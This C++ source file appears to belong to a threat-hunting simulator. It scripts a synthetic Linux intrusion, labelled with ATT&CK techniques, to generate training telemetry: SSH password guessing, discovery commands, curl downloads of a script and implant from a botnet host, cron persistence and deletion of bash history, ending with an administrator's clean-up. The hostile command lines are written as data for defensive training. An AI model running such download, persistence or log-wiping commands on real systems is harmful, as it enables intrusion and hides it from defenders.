// The Linux host's part of the attack.
#include <array>
#include <memory>
#include <utility>

#include <fmt/format.h>

#include "scenario/story/attack.hpp"
#include "scenario/story/script.hpp"

namespace huntbook::scenario {

namespace {

const LinuxUser victim{"deploy", 1'042};

// What the attacker's hands are on: known only once the login has happened.
using Foothold = std::shared_ptr<LinuxSession>;

void guess_passwords(Script& script, LinuxHost& host) {
  constexpr std::array<std::string_view, 14> names = {"root",    "admin", "ubuntu", "postgres", "oracle", "test", "git",
                                                      "jenkins", "www",   "mysql",  "ftp",      "user",   "dev",  "pi"};
  for (int connection = 0; connection < 84; ++connection) {
    // Towards the end the guesses go to the one name that exists.
    const bool exists = connection >= 60;
    const LinuxUser user = exists ? victim : LinuxUser{std::string(names[script.random().below(names.size())]), 0};
    script.then(60 * ticks_per_second, credential_access, "T1110.001",
                fmt::format("password guessed for {}", user.name),
                [&host, user] { host.fail_ssh(user, botnet_address, 3); });
  }
}

void look_around(Script& script, LinuxHost& host, const Foothold& foothold) {
  struct Look {
    std::string_view technique;
    std::string_view what;
    std::string_view program;
    std::vector<std::string> arguments;
  };
  const std::array<Look, 8> looks = {{{"T1033", "own rights read", "/usr/bin/id", {}},
                                      {"T1082", "system read", "/usr/bin/uname", {"-a"}},
                                      {"T1082", "processor read", "/usr/bin/cat", {"/proc/cpuinfo"}},
                                      {"T1087.001", "users enumerated", "/usr/bin/cat", {"/etc/passwd"}},
                                      {"T1033", "sessions listed", "/usr/bin/w", {}},
                                      {"T1057", "processes listed", "/usr/bin/ps", {"auxf"}},
                                      {"T1049", "listeners listed", "/usr/bin/ss", {"-tnlp"}},
                                      {"T1016", "addresses read", "/usr/bin/ip", {"addr"}}}};
  for (const Look& look : looks) {
    script.then(15 * ticks_per_second, discovery, look.technique, std::string(look.what),
                [&host, foothold, look] { host.run(*foothold, look.program, look.arguments); });
  }
}

void install(Script& script, LinuxHost& host, const Foothold& foothold) {
  script.then(40 * ticks_per_second, command_and_control, "T1105", "script fetched", [&host, foothold] {
    const std::uint32_t curl =
        host.run(*foothold, "/usr/bin/curl", {"-fsSL", std::string(script_url), "-o", "/tmp/.kw.sh"});
    host.reach(*foothold, curl, "/usr/bin/curl", botnet_address, {8080, "http", ticks_per_second, 220, 5'400});
  });
  script.then(6 * ticks_per_second, defense_evasion, "T1222.002", "script made executable",
              [&host, foothold] { host.run(*foothold, "/usr/bin/chmod", {"+x", "/tmp/.kw.sh"}); });
  script.then(4 * ticks_per_second, execution, "T1059.004", "script run", [&host, foothold] {
    host.run(*foothold, "/tmp/.kw.sh", {"-q"});
    host.run(*foothold, "/usr/bin/mkdir", {"-p", "/var/tmp/.cache"});
    const std::uint32_t curl =
        host.run(*foothold, "/usr/bin/curl",
                 {"-fsSL", fmt::format("http://{}:8080/u/kwatchd", botnet_address), "-o", std::string(implant_path)});
    host.reach(*foothold, curl, "/usr/bin/curl", botnet_address, {8080, "http", 3 * ticks_per_second, 230, 1'900'000});
    host.run(*foothold, "/usr/bin/chmod", {"755", std::string(implant_path)});
  });
  script.then(3 * ticks_per_second, persistence, "T1053.003", "put into cron", [&host, foothold] {
    host.run(*foothold, "/usr/bin/bash",
             {"-c", fmt::format("(crontab -l 2>/dev/null; echo \"17 */6 * * * {} -k >/dev/null 2>&1\") | crontab -",
                                implant_path)});
    const std::uint32_t crontab = host.run(*foothold, "/usr/bin/crontab", {"-"});
    host.write_file(*foothold, crontab, "/usr/bin/crontab", "/var/spool/cron/crontabs/deploy", "cron");
    host.say("crontab", crontab, "(deploy) REPLACE (deploy)");
  });
  script.then(20 * ticks_per_second, defense_evasion, "T1070.004", "script removed",
              [&host, foothold] { host.run(*foothold, "/usr/bin/rm", {"-f", "/tmp/.kw.sh"}); });
  script.then(5 * ticks_per_second, defense_evasion, "T1070.003", "history of commands removed",
              [&host, foothold] { host.run(*foothold, "/usr/bin/rm", {"-f", "/home/deploy/.bash_history"}); });
}

// The implant calls home every half an hour, give or take a fifth, and cron looks every six hours whether it lives.
struct Beacon {
  LinuxHost& host;
  Random random;
  Ticks end;
};

void call_home(const std::shared_ptr<Beacon>& beacon, Ticks time) {
  const Label label{command_and_control, "T1071.001", "beacon"};
  beacon->host.world().at(time, label, [beacon] {
    LinuxHost& host = beacon->host;
    if (host.world().now() >= beacon->end) return;
    if (beacon->random.one_in(4)) host.network().look_up(host.address(), control_name, control_address);
    host.network().connect(host.address(), control_address, {443, "ssl", 900 * ticks_per_millisecond, 1'100, 640});
    constexpr Ticks period = 30 * ticks_per_minute;
    call_home(beacon, host.world().now() + period + beacon->random.between(-period / 5, period / 5));
  });
}

void keep_alive(LinuxHost& host, Ticks begin, Ticks end) {
  constexpr Ticks interval = 6 * ticks_per_hour;
  for (Ticks hour = begin - begin % interval + interval; hour < end; hour += interval) {
    host.world().at(
        hour + 17 * ticks_per_minute + ticks_per_second, Label{persistence, "T1053.003", "implant started by cron"},
        [&host] { host.run_job(victim, fmt::format("{} -k >/dev/null 2>&1", implant_path), implant_path, {"-k"}); });
  }
}

// Not the attack's: somebody finds it at last.
void clean_up(LinuxHost& host, Ticks time) {
  host.world().at(time, [&host] {
    const LinuxSession session = host.ssh({"rourke", 1'000}, "10.20.30.21", SshMethod::PublicKey);
    host.sudo(session, "/usr/bin/pkill", {"-f", "kwatchd"});
    host.sudo(session, "/usr/bin/crontab", {"-u", "deploy", "-r"});
    host.sudo(session, "/usr/bin/mv", {std::string(implant_path), "/root/evidence/"});
    host.sudo(session, "/usr/sbin/usermod", {"-L", "deploy"});
    host.log_out(session);
  });
}

}  // namespace

void attack_linux(LinuxHost& host, const Company& company) {
  Script script(company.world, company.period.begin + linux_night, "attack, Linux host");
  auto foothold = std::make_shared<LinuxSession>();
  guess_passwords(script, host);
  script.then(20 * ticks_per_second, initial_access, "T1078.003", "deploy logs in over ssh",
              [&host, foothold] { *foothold = host.ssh(victim, botnet_address, SshMethod::Password); });
  look_around(script, host, foothold);
  install(script, host, foothold);
  const Ticks found = company.period.begin + clean_up_morning;
  auto beacon = std::make_shared<Beacon>(Beacon{host, Random(company.world.seed(), "beacon"), found});
  call_home(beacon, script.time() + 10 * ticks_per_second);
  keep_alive(host, script.time(), found);
  script.then(90 * ticks_per_second, defense_evasion, "T1070", "attacker logs out",
              [&host, foothold] { host.log_out(*foothold); });
  clean_up(host, found);
}

}  // namespace huntbook::scenario
